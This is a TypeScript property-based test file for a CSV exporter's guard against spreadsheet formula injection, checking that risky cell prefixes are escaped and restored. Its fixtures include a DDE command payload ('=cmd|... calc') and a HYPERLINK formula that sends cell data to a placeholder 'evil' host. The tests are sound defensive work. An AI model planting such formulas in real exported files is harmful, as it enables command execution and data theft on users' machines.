import * as fc from 'fast-check';
import { describe as group, expect, it } from 'vitest';
import { guardCell, parseCsv, printCsv, unguardCell } from '../../../common/interchange/csv';

/** Cells as a spreadsheet sees them that parts them at another sign than we do, by the rules that all of them follow. */
function partedAt(separator: string, csv: string): readonly string[] {
  const cells: string[] = [];
  let rest = csv.replace(/^\ufeff/, '');
  while (rest !== '') {
    const quoted = /^"((?:[^"]|"")*)(?:"|$)/.exec(rest);
    rest = rest.slice(quoted?.[0].length ?? 0);
    const length = [...rest].findIndex((sign) => sign === separator || sign === '\r' || sign === '\n');
    const bare = length < 0 ? rest : [...rest].slice(0, length).join('');
    cells.push((quoted?.[1] ?? '').replaceAll('""', '"') + bare);
    rest = rest.slice(bare.length + 1);
  }
  return cells;
}

const hostile = fc
  .array(
    fc.constantFrom(
      ...['=', '+', '-', '@', '＝', '＋', '－', '＠', ';', '\t', '\r', '\n', ' ', '\u00a0', '"', "'"],
      ...[',', '|', 'x', 'cmd', '1', '\u{1f600}'],
    ),
    { maxLength: 14 },
  )
  .map((parts) => parts.join(''));

group('what a spreadsheet would run', () => {
  it.each([';', '\t', ','])('is guarded where cells are parted at %j', (separator) => {
    fc.assert(
      fc.property(fc.array(fc.tuple(hostile, hostile), { minLength: 1, maxLength: 3 }), (rows) => {
        for (const cell of partedAt(separator, printCsv(rows))) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
      }),
      { numRuns: 2000 },
    );
  });

  it('comes back, with apostrophes of its own or without', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        expect(unguardCell(guardCell(text))).toBe(text);
        const [head, row] = [
          ['id', 'note'],
          ['x', text],
        ];
        expect(parseCsv(printCsv([head, row])).rows.map(({ cells }) => cells)).toEqual([head, row]);
      }),
      { numRuns: 3000 },
    );
  });

  it.each([
    ["see;=cmd|' /C calc'!A0;x", "see;'=cmd|' /C calc'!A0;x"],
    ['see\n=HYPERLINK("http://evil/?"&A1);x', 'see\n\'=HYPERLINK("http://evil/?"&A1);x'],
    ['\t=1', "'\t'=1"],
    // A program that takes no notice of our quotation marks ends its own behind the first one.
    ['a;"=1', 'a;"\'=1'],
    ["a;'@x", "a;''@x"],
    ['a - b, -1 | =2 ; c=d', 'a - b, -1 | =2 ; c=d'],
  ])('%j becomes %j', (text, guarded) => {
    expect(guardCell(text)).toBe(guarded);
    expect(unguardCell(guarded)).toBe(text);
  });
});
